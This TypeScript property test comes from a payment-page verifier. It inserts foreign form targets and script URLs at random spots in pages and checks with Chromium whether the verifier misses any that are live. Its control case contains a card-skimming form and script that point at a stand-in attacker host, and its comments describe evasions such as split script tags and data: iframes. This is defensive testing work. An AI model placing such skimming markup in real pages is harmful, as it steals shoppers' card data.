/**
 * Issue 10, first bullet, where liveness is not obvious: a foreign form target or script URL is
 * inserted at a random offset of a real page (inside a comment, an attribute value, raw text, a
 * select, svg, a table, a template…). When the verifier does not flag it, a real Chromium is asked
 * (test/corpus/chromium-probe.ts, every request answered inside the browser): if Chromium makes
 * the foreign URL live or requests it, the verifier was wrong. When the verifier flags it there is
 * nothing to ask (over-approximation is allowed).
 *
 * Bounded: at most PAYGUARD_CHROMIUM_PROBES page loads (default 40) per run, out of at most
 * PAYGUARD_PROPERTY_RUNS generated pages (default 400). The seed is printed; replay with
 * PAYGUARD_PROPERTY_SEED.
 */
import fc from 'fast-check';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { VerifyRefusal } from '../../src/errors.js';
import type { Policy } from '../../src/policy/model.js';
import { verifyDocument } from '../../src/verify/index.js';
import type { Finding } from '../../src/verify/types.js';
import { describeFinding } from '../corpus/cases.js';
import { probeCase, type BrowserObservation } from '../corpus/chromium-probe.js';
import { corpusPolicy } from '../corpus/policy.js';
import { launchChromium } from '../helpers/chromium.js';
import { startStaticServer, type StaticServer } from '../helpers/upstreams.js';
import { encoded, encodePage, foreignTarget } from './verify/mutators.js';
import { demoPages, filePages, type SeedPage } from './verify/pages.js';
import { PROPERTY_TIMEOUT_MS, propertyParameters } from './verify/run.js';

const PROBES = Number(process.env.PAYGUARD_CHROMIUM_PROBES ?? 40);

let server: StaticServer;
let browser: Browser;
let policy: Policy;
let pages: SeedPage[];

beforeAll(async () => {
  pages = [...filePages(), ...(await demoPages())];
  server = await startStaticServer();
  policy = corpusPolicy(server.origin);
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

/** Offsets right after a `>`: the start of text, raw text, comment bodies and foreign content. */
function offsetsAfterTags(text: string): number[] {
  const offsets: number[] = [];
  for (let i = text.indexOf('>'); i >= 0; i = text.indexOf('>', i + 1)) offsets.push(i + 1);
  return offsets.length > 0 ? offsets : [0];
}

/** Did Chromium make anything at `origin` live, or ask for it, from the page's own markup? */
function honouredBy(seen: BrowserObservation, origin: string): string[] {
  const at = (url: string): boolean => {
    try {
      return new URL(url).origin === origin;
    } catch {
      return false;
    }
  };
  return [
    ...seen.targets.filter((t) => at(t.url)).map((t) => `live ${t.kind} ${t.url}${t.root === 'document' ? '' : ` (${t.root})`}`),
    ...seen.requests.filter((r) => at(r.url) && r.initiator !== 'script').map((r) => `requested ${r.type} ${r.url} (initiator ${r.initiator})`),
  ];
}

/**
 * The insertion lies wholly inside something the verifier refused as a whole, so that it can only
 * become live through that thing, which is the violation: the same rule as compare.ts, which
 * leaves what code requests to the judgement of the code.
 * - The body of an inline script refused as code: the markup is a string there, live only if the
 *   script writes it out. Seed 272169854: a form inside `document.write('<scr'+'ipt …>')`.
 * - The value of an attribute the verifier refused, such as a data: document in an iframe: the
 *   markup is that document's. Same seed: a script inside `<iframe src="data:text/html,<form …>">`.
 * Located by source offsets in the text as the verifier decoded it. Ends are estimated early (the
 * first `</script`, the first closing quote), which only makes this stricter.
 */
function insideRefusedWhole(bytes: Uint8Array, encoding: string, markup: string, violations: readonly Finding[]): boolean {
  const text = new TextDecoder(encoding).decode(bytes);
  const at = text.indexOf(markup);
  if (at < 0 || text.indexOf(markup, at + 1) >= 0) return false;
  const inside = (range: { start: number; end: number } | undefined): boolean => range !== undefined && range.start <= at && at + markup.length <= range.end;
  return violations.some((f) => f.offset !== undefined && f.offset < at && inside(f.kind === 'inline-script' ? scriptBody(text, f.offset) : f.attribute ? attributeValue(text, f.offset, f.attribute) : undefined));
}

/** The body of the script whose start tag begins at `tagStart`, ended at the first `</script`. */
function scriptBody(text: string, tagStart: number): { start: number; end: number } | undefined {
  const start = text.indexOf('>', tagStart) + 1;
  const end = text.toLowerCase().indexOf('</script', start);
  return start > 0 && end >= 0 ? { start, end } : undefined;
}

/** The value of the attribute `name` written at `offset` (`name = "value"`, quoted or not). */
function attributeValue(text: string, offset: number, name: string): { start: number; end: number } | undefined {
  if (text.slice(offset, offset + name.length).toLowerCase() !== name.toLowerCase()) return undefined;
  const eq = /^[\t\n\f\r ]*=[\t\n\f\r ]*/.exec(text.slice(offset + name.length, offset + name.length + 64));
  if (!eq) return undefined;
  const start = offset + name.length + eq[0].length;
  const quote = text[start];
  if (quote === '"' || quote === "'") {
    const end = text.indexOf(quote, start + 1);
    return end < 0 ? undefined : { start: start + 1, end };
  }
  const end = text.slice(start).search(/[\t\n\f\r >]/);
  return end < 0 ? undefined : { start, end: start + end };
}

describe('verifier properties: Chromium sample', () => {
  it('the probe sees a foreign form and script when they are live (control: the sample can fail)', async () => {
    const origin = 'https://skim.attacker.example';
    const html = `<!DOCTYPE html><title>control</title><form action="${origin}/steal"><input name=cardnumber></form><script src="${origin}/s.js"></script>`;
    server.set('/checkout/control', { headers: [['content-type', 'text/html; charset=utf-8']], body: new TextEncoder().encode(html) });
    const seen = await probeCase(browser, `${server.origin}/checkout/control`, {});
    const honoured = honouredBy(seen, origin);
    expect(honoured.some((h) => h.startsWith('live form'))).toBe(true);
    expect(honoured.some((h) => h.startsWith('requested Script'))).toBe(true);
  });

  it('never reports a page clean when a foreign form target or script URL was inserted where Chromium would honour it (random positions, Chromium asked)', async () => {
    const tally = { generated: 0, flagged: 0, insideRefused: 0, refused: 0, probed: 0 };
    const insertion = fc.record({
      page: fc.constantFrom(...pages),
      afterTag: fc.boolean(),
      pick: fc.nat(),
      target: foreignTarget,
      encoding: encoded,
    });
    await fc.assert(
      fc.asyncProperty(insertion, async ({ page, afterTag, pick, target, encoding }) => {
        if (tally.probed >= PROBES) return;
        const path = `/checkout/sample-${tally.generated++}`;
        const pageUrl = server.origin + path;
        // Spellings are resolved against this http page: `http:host` is same-origin here.
        const origin = new URL(target.url.spelled, pageUrl).origin;
        fc.pre(origin !== server.origin);
        const offsets = afterTag ? offsetsAfterTags(page.text) : [pick];
        const offset = offsets[pick % offsets.length]! % (page.text.length + 1);
        const text = page.text.slice(0, offset) + target.markup + page.text.slice(offset);
        const { bytes, headers } = encodePage(text, encoding);
        let findings: string;
        try {
          const v = verifyDocument({ bytes, url: pageUrl, headers, policy, mode: 'block' });
          if (v.violations.some((f) => f.origin === origin)) return void tally.flagged++;
          if (insideRefusedWhole(bytes, v.encoding, target.markup, v.violations)) return void tally.insideRefused++;
          findings = v.findings.map(describeFinding).join('\n  ');
        } catch (err) {
          if (err instanceof VerifyRefusal) return void tally.refused++;
          throw err;
        }
        tally.probed++;
        server.set(path, { headers, body: bytes });
        const seen = await probeCase(browser, pageUrl, {});
        const honoured = honouredBy(seen, origin);
        expect(
          honoured,
          `Chromium honoured ${target.name} at ${origin}, the verifier did not flag it.\npage ${page.name} at ${offset} (${encoding.encoding} by ${encoding.declaration})\n` +
            `markup: ${target.markup}\ncontext: ${JSON.stringify(page.text.slice(Math.max(0, offset - 160), offset))}\nfindings:\n  ${findings}`,
        ).toEqual([]);
      }),
      propertyParameters('Chromium sample at random positions', 400),
    );
    console.log(`[property] Chromium sample: ${JSON.stringify(tally)}`);
    // The sample must have asked Chromium something, or it proves nothing.
    expect(tally.probed).toBeGreaterThan(Math.min(PROBES, 5) - 1);
  }, PROPERTY_TIMEOUT_MS);
});
